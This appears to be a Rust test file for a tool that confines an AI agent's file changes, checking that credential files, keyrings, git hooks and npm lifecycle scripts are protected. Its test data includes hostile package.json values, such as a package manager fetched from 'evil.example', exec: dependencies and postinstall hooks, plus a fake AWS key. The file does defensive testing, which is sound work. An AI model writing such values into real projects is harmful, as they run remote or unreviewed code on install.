//! Limits of an agent that can run only this program.

use std::fs;
use std::io::Write;
use std::os::unix::fs::MetadataExt;
use std::path::Path;
use std::process::Stdio;

use crate::program::{Ended, actum, command, text, workspace};
use serde_json::{Value, json};

/// Runs the program with the given standard input.
fn given(root: &Path, arguments: &[&str], input: &str) -> Ended {
    let mut command = command(root, arguments);
    let streams = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = streams.spawn().unwrap();
    child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
    child.wait_with_output().unwrap().into()
}

fn create(root: &Path, path: &str, content: &str) -> Ended {
    let change = json!({ "files": [{ "path": path, "content": content }] });
    given(root, &["apply", "-"], &change.to_string())
}

/// D-5: a keyring is protected even if the workspace root itself is a directory named `keys`.
#[test]
fn a_keyring_in_a_root_called_keys_is_denied() {
    let (_directory, root) = workspace();
    let keys = root.join("sub/keys");
    fs::create_dir(&keys).unwrap();
    assert_eq!(actum(&root, &["init", "sub/keys"]).code, 0);
    let keyring = r#"{"format":"actum.keyring/1","keys":[]}"#;
    let denied = create(&keys, "keyring.json", keyring);
    assert_eq!(denied.code, 1, "{denied:?}");
    assert!(denied.stderr.contains("a home of ledgers and keys"), "{denied:?}");
    assert!(!keys.join("keyring.json").exists());
}

/// EX-20: messages never quote a file that may hold credentials, and ledgers store no file content.
#[test]
fn messages_hide_credentials_and_ledgers_store_no_file_content() {
    let (_directory, root) = workspace();
    let key = ["AKIA", "Q3EGRZV7M5PLXW2T"].concat();
    fs::write(root.join(".env"), "A=1\nPW=hunter2\n").unwrap();
    fs::write(root.join("conf.py"), format!("one\naws = \"{key}\"\n")).unwrap();
    fs::write(root.join("plain.txt"), "one\nordinary text\n").unwrap();
    let patch = |path: &str| format!("--- a/{path}\n+++ b/{path}\n@@ -2 +2 @@\n-XX\n+YY\n");
    for path in [".env", "conf.py"] {
        let refused = given(&root, &["apply", "-"], &patch(path));
        let wanted = format!(
            "error: cannot patch `{path}`: hunk 1 does not match at line 2; its content is not shown because the file \
             may contain credentials; nothing was changed\n"
        );
        assert!(refused.stderr.starts_with(&wanted), "{refused:?}");
        let edit = json!({ "path": path, "old_string": "absent", "new_string": "" }).to_string();
        let refused = given(&root, &["apply", "-"], &edit);
        let wanted = "the text to replace does not match the file; its content is not shown";
        assert!(refused.stderr.contains(wanted), "{refused:?}");
    }
    let refused = given(&root, &["apply", "-"], &patch("plain.txt"));
    assert!(refused.stderr.contains("found `ordinary text"), "{refused:?}");
    let plan = json!({
        "actionId": "action:a", "actionType": "apply_changeset", "riskTier": "R2", "reason": "r",
        "input": { "document": patch("plain.txt") }, "rollbackPlan": "undo",
        "verification": { "required": true, "commands": [] },
        "scope": { "allowedFiles": [], "allowedDirs": ["."], "forbiddenFiles": [] },
    });
    let ended = given(&root, &["action", "run", "-"], &plan.to_string());
    let envelope: Value = serde_json::from_str(&ended.stdout).unwrap();
    assert!(envelope["feedback"]["message"].as_str().unwrap().contains("ordinary text"));
    let recorded = actum(&root, &["feedback", "--json"]).stdout;
    assert!(recorded.contains("hunk 1 does not match at line 2"), "{recorded}");
    assert!(!recorded.contains("ordinary text"), "{recorded}");
}

/// D-5: gates compare new content with the earlier content at the same path, not with that of a file that moves there.
#[test]
fn package_moved_over_another_needs_approval_for_its_scripts() {
    let (_directory, root) = workspace();
    let scripts = "{\n  \"name\": \"e\",\n  \"scripts\": { \"postinstall\": \"node x.js\" }\n}\n";
    fs::create_dir(root.join("m")).unwrap();
    fs::write(root.join("m/package.json"), scripts).unwrap();
    let moved = "diff --git a/m/package.json b/package.json\nsimilarity index 90%\n\
                 rename from m/package.json\nrename to package.json\n--- a/m/package.json\n\
                 +++ b/package.json\n@@ -1,3 +1,3 @@\n {\n-  \"name\": \"e\",\n+  \"name\": \"x\",\n \
                 \x20 \"scripts\": { \"postinstall\": \"node x.js\" }\n";
    assert_eq!(given(&root, &["apply", "-"], moved).code, 6);
    fs::write(root.join("package.json"), "{\"name\":\"x\"}\n").unwrap();
    assert_eq!(given(&root, &["apply", "--overwrite", "-"], moved).code, 6);
    fs::create_dir(root.join("web")).unwrap();
    let unchanged = "diff --git a/m/package.json b/web/package.json\nsimilarity index 100%\n\
                     rename from m/package.json\nrename to web/package.json\n";
    assert_eq!(given(&root, &["apply", "-"], unchanged).code, 6);
    assert_eq!(text(&root, "package.json"), "{\"name\":\"x\"}\n");
}

/// D-5: parsers disagree on which of two duplicate names is used, so neither may hide a lifecycle script.
#[test]
fn duplicate_json_names_do_not_hide_lifecycle_scripts() {
    let (_directory, root) = workspace();
    for content in [
        r#"{"name":"x","scripts":{"postinstall":"echo"},"scripts":{}}"#,
        r#"{"scripts":{"postinstall":"echo","postinstall":""}}"#,
    ] {
        assert_eq!(create(&root, "package.json", content).code, 6, "{content}");
    }
    for member in ["allowBuilds", "onlyBuiltDependenciesFile", "dangerouslyAllowAllBuilds"] {
        let content = json!({ "pnpm": { member: "x" } }).to_string();
        assert_eq!(create(&root, "package.json", &content).code, 6, "{content}");
    }
    for content in [
        r#"{"dependencies":{"gen":"exec:./gen.js"}}"#,
        r#"{"resolutions":{"a/b":"patch:gen@exec%3A./gen.js#x"}}"#,
        r#"{"dependenciesMeta":{"dep":{"built":true}}}"#,
        r#"{"allowScripts":{"dep":true}}"#,
        r#"{"packageManager":"yarn@https:evil.example/yarn.js"}"#,
    ] {
        assert_eq!(create(&root, "package.json", content).code, 6, "{content}");
    }
    for (path, content) in [
        ("package.json", r#"{"name":"x","name":"y"}"#),
        (
            "web/package.json",
            r#"{"packageManager":"yarn@4.9.4+sha256.ab","dependenciesMeta":{"d":{"built":false}}}"#,
        ),
    ] {
        assert_eq!(create(&root, path, content).code, 0, "{content}");
    }
}

/// EX-20: a file name that marks its content as a credential is also checked if an existing file is moved there.
#[test]
fn file_renamed_to_a_key_name_is_scanned_for_credentials() {
    let (_directory, root) = workspace();
    fs::write(root.join("n"), "a key\n").unwrap();
    let moved =
        "diff --git a/n b/id_ed25519\nsimilarity index 100%\nrename from n\nrename to id_ed25519\n";
    let denied = given(&root, &["apply", "-"], moved);
    assert_eq!(denied.code, 1, "{denied:?}");
    assert!(denied.stderr.contains("key-file"), "{denied:?}");
}

/// D-5: file rules cannot see names above the root, so `init` refuses to create a root where such rules apply.
#[test]
fn init_is_refused_where_the_enclosing_workspace_needs_approval() {
    let (_directory, root) = workspace();
    assert_eq!(create(&root, "new.txt", "1\n").code, 0);
    for place in
        [".lefthook/pre-commit", ".clinerules", "secrets.d", ".claude/rules/.claude/worktrees/x"]
    {
        fs::create_dir_all(root.join(place)).unwrap();
        let refused = actum(&root, &["init", place]);
        assert_eq!(refused.code, 1, "{refused:?}");
        assert!(refused.stderr.contains("the enclosing workspace or repository"), "{refused:?}");
    }
    fs::create_dir_all(root.join(".claude/worktrees/x")).unwrap();
    assert_eq!(actum(&root, &["init", ".claude/worktrees/x"]).code, 0);
}

/// D-5
#[test]
fn init_is_refused_in_workspace_or_repository_state() {
    let (_directory, root) = workspace();
    assert_eq!(create(&root, "new.txt", "1\n").code, 0);
    fs::create_dir_all(root.join(".git/hooks")).unwrap();
    for place in [".actum/recorded", ".actum", ".git/hooks"] {
        let refused = actum(&root, &["init", place]);
        assert_ne!(refused.code, 0, "{place}");
        let wanted = "the state directory of a workspace or repository\n";
        assert!(refused.stderr.contains(wanted), "{refused:?}");
        assert!(!root.join(place).join(".actum").exists());
    }
    assert_eq!(create(&root, "second.txt", "1\n").code, 0);
}

/// D-5, EX-16: the report directory of every enclosing workspace is protected as well.
#[test]
fn file_blocking_the_report_directory_needs_approval_in_nested_roots() {
    let (_directory, root) = workspace();
    assert_eq!(create(&root, "agent/x.txt", "x\n").code, 0);
    assert_eq!(actum(&root, &["init", "agent"]).code, 0);
    let queued = create(&root.join("agent"), "agent_outputs", "x\n");
    assert_eq!(queued.code, 6, "{queued:?}");
}

/// FO-1: an input descriptor is named by its number, and a path that continues below the descriptor is rejected.
#[test]
fn fifo_reached_through_a_descriptor_path_is_not_opened() {
    let (directory, root) = workspace();
    let fifo = directory.path().canonicalize().unwrap().join("fifo");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::S_IRUSR | nix::sys::stat::Mode::S_IWUSR)
        .unwrap();
    let named = format!("/dev/fd/../root{}", fifo.display());
    let refused = actum(&root, &["apply", &named]);
    assert!(refused.stderr.contains("it is not a regular file"), "{refused:?}");
    assert_eq!(fs::metadata(&fifo).unwrap().len(), 0);
}

/// AEC-10: two contents that are too large to show are distinguished by their digest and mode.
#[test]
fn oversized_file_is_shown_by_digest_and_mode() {
    let (directory, root) = workspace();
    let large = "# a comment\n".repeat(1_500_000);
    let change = directory.path().join("change.json");
    let files = json!({ "files": [{ "path": "new.txt", "content": large }] });
    fs::write(&change, files.to_string()).unwrap();
    assert!(fs::metadata(&change).unwrap().size() > 16 << 20);
    let shown = actum(&root, &["apply", "--dry-run", "--diff", change.to_str().unwrap()]).stdout;
    let digest = actum_core::Digest::of(large.as_bytes()).to_string();
    assert!(
        shown.contains("before: no file, after: 18000000 bytes (mode 0644, SHA-256 "),
        "{shown}"
    );
    assert!(shown.contains(&digest), "{shown}");
}
